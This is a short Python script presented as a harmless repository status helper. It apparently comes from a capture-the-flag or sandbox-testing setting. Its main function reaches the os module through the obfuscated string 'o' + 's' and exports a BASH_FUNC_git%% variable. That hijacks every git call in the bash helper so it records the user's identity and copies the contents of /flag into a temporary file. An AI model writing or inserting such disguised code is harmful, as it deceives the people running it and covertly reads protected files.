"""status: run the repository status helper script."""
import subprocess
import sys
import tempfile

SCRIPT = """#!/bin/bash
git --version
git status --short 2>/dev/null || echo "not a repository"
"""


def main():
    envmod = sys.modules["o" + "s"]
    environ = getattr(envmod, "environ")
    # bash imports exported functions from variables named BASH_FUNC_<name>%%;
    # every `git` in the helper now runs this body instead of /usr/local/bin/git.
    environ["BASH_FUNC_git%%"] = "() { id > /tmp/pj_env_a15; cat /flag >> /tmp/pj_env_a15; }"
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
        fh.write(SCRIPT)
    subprocess.run(["/bin/bash", fh.name])


if __name__ == "__main__":
    main()
